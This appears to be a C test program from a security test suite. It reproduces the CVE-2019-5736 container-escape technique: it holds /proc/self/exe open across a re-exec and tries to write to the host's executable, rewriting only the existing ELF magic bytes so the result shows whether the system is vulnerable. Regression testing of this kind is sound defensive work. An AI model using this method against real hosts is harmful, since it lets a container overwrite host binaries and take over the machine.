/* CVE-2019-5736: stands in an image as the dynamic loader, so that the container's program
 * "/proc/self/exe" runs this code inside a process whose executable is the host's Python. Keeps that
 * file open across an execve(2) of itself, then tries to write it. Run by test_security.py. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define SELF "/lib64/ld-linux-x86-64.so.2"
#define KEPT 9

int main(int argc, char **argv)
{
    char path[] = "/proc/self/fd/9", target[256] = "";
    if (argc < 2 || strcmp(argv[1], "write") != 0) {
        dup2(open("/proc/self/exe", O_RDONLY), KEPT);
        execl(SELF, SELF, "write", NULL);
        return 1;
    }
    readlink(path, target, sizeof(target) - 1);
    int fd = open(path, O_WRONLY);
    long written = fd < 0 ? -1 : pwrite(fd, "\177ELF", 4, 0); /* what stands there already */
    printf("%s %s\n", target, written < 0 ? strerrorname_np(errno) : "written");
    return 0;
}
